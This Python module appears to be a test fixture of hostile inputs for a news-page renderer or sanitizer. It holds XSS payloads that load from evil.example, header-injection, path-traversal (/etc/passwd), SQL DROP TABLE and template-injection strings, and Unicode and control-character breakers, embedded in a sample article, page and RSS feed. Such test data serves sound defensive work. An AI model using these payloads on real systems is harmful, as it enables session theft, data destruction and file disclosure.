"""What comes in from whoever means harm: markup that acts, and words that break a page."""

MARKUP = {
    "script": "<script>steal()</script>",
    "script in disguise": "<scr<script>ipt>steal()</scr</script>ipt>",
    "svg": '<svg onload="steal()"><a xlink:href="javascript:steal()">x</a></svg>',
    "math": '<math><mi xlink:href="javascript:steal()">x</mi></math>',
    "script link": '<a href="javascript:steal()">the letter</a>',
    "data link": '<a href="data:text/html,<script>steal()</script>">the letter</a>',
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>steal()</script>"></iframe>',
    "object": '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "handlers": '<img src=x onerror=steal()><p onmouseover="steal()" style="background:url(//evil.example)">x</p>',
    "form": '<form action="https://evil.example"><button formaction="javascript:steal()">Go</button></form>',
    "style": "<style>@import url(https://evil.example)</style>",
    "end of everything": '"></q></li></ul></article></main></body></html><script>steal()</script>',
    "template": "{{ 7 * 7 }}{% raw %}${7*7}",
    "comment": "<!--><script>steal()</script-->",
}
ALL = " ".join(MARKUP.values())
TEXT = f"""Envoy {ALL} denies letter

By Ana <b>Roth</b> {ALL}

The envoy, Ilse {ALL} Brandt, said on Monday that “{ALL}” was wrong. She denied that a {ALL} letter had come.

“We have {ALL} received nothing,” Brandt told reporters.
"""
PAGE = f"""<!doctype html><html lang='en"><script>steal()</script>'><head><title>Envoy {ALL} denies letter</title>
<meta property="og:site_name" content="The Quay &lt;script&gt;steal()&lt;/script&gt;">
<meta name="author" content="&lt;img src=x onerror=steal()&gt;"></head><body><article><h1>Envoy denies letter</h1>
<p>The envoy said on Monday that &lt;script&gt;steal()&lt;/script&gt; was wrong, and that nothing had come. {ALL}</p>
<p>“We have received nothing &lt;svg onload=steal()&gt;,” the envoy told reporters in the harbour town.</p></article>
<section class="comments"><h2>Comments</h2><p>first! &lt;script&gt;steal()&lt;/script&gt; {ALL}</p></section></body></html>"""
ESCAPED = ALL.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
FEED = f"""<?xml version="1.0"?><rss version="2.0"><channel><title>The Quay {ESCAPED}</title>
<link>javascript:steal()</link><item><title>Envoy {ESCAPED} denies</title><link>javascript:steal()</link>
<guid isPermaLink="false">&lt;script&gt;steal()&lt;/script&gt;</guid>
<description>&lt;p&gt;The envoy said that nothing had come. {ESCAPED}&lt;/p&gt;</description></item></channel></rss>"""

#: Words that are no markup and break a page all the same.
WORDS = {
    "a word without end": "W" * 10_000,
    "written backwards": "\u202eteksab eht ni si rettel eht\u202c\u2066",
    "no characters": "null \x00 bell \x07 escape \x1b[31m delete \x7f",
    "marks without end": "e" + "\u0301" * 500,
    "not seen": "\u200b\u2060\ufeff\u00ad\u200f",
    "a newline": "first\r\nSet-Cookie: x=y\r\n\r\n<b>second",
    "a formula": '=HYPERLINK("javascript:steal()")',
    "a path": "../../../../etc/passwd",
    "a query": "' OR 1=1; DROP TABLE decided_marks; --",
    "a template": "{{7*7}}{% include '/etc/passwd' %}#{7*7}<%= 7*7 %>${7*7}",
    "a style": "</style><style>*{display:none}</style>;}}*{background:url(https://evil.example/x)}",
}
